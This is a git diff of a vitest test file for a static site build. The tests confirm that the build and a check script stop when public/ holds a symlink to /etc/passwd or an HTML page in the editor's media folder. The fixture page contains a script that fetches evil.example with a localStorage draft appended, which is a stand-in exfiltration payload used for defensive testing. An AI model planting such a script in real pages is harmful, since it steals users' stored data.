@@ -1,40 +1,10 @@
 // The build and `npm run check` of a copy of the fixture site stop, naming the file, when public/ holds a link
 // to a file of the build machine or a page in the web editor's media folder; what the link leads to is never
 // printed, and no site is written.
-import { spawnSync } from 'node:child_process';
-import { cpSync, existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
-import { tmpdir } from 'node:os';
+import { existsSync, mkdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
-import { afterAll, describe, expect, it } from 'vitest';
-
-const root = join(import.meta.dirname, '..', '..');
-const astro = join(root, 'node_modules', '.bin', 'astro');
-const stackTrace = /^\s+at .+:\d+:\d+\)?$/m;
-const temp = mkdtempSync(join(tmpdir(), 'nq57-published-cli-'));
-afterAll(() => rmSync(temp, { recursive: true, force: true }));
-
-/** A copy of the fixture site, changed by `change`; the build and the check run over it. */
-function siteWith(name: string, change: (site: string) => void) {
-  const site = join(temp, name);
-  cpSync(join(root, 'tests', 'fixtures', 'valid'), join(site, 'content'), { recursive: true });
-  cpSync(join(root, 'tests', 'fixtures', 'public'), join(site, 'public'), { recursive: true });
-  change(site);
-  const env = {
-    ...process.env,
-    SITE_CONTENT_DIR: join(site, 'content'),
-    SITE_UNIT: 'demo',
-    SITE_OUT_DIR: join(site, 'dist'),
-  };
-  const run = (command: string, args: string[]) => {
-    const result = spawnSync(command, args, { cwd: root, encoding: 'utf8', env, timeout: 120_000 });
-    return { status: result.status, output: `${result.stdout}\n${result.stderr}` };
-  };
-  return {
-    build: () => run(astro, ['build']),
-    check: () => run(process.execPath, ['scripts/check.ts', '--content-only']),
-    site,
-  };
-}
+import { describe, expect, it } from 'vitest';
+import { fixtureSite as siteWith, stackTrace } from './support/fixture-site.ts';
 
 describe('a link in public/ to /etc/passwd', () => {
   const { build, check, site } = siteWith('lien-ket', (site) =>
@@ -60,7 +30,7 @@ describe('a link in public/ to /etc/passwd', () => {
 
 describe('a page in the web editor’s media folder', () => {
   const { build, site } = siteWith('trang-web', (site) => {
-    mkdirSync(join(site, 'public', 'tep'));
+    mkdirSync(join(site, 'public', 'tep'), { recursive: true });
     writeFileSync(
       join(site, 'public', 'tep', 'thong-bao.html'),
       '<!doctype html><script>fetch("https://evil.example/?" + localStorage.getItem("nq57-feedback-draft"))</script>',
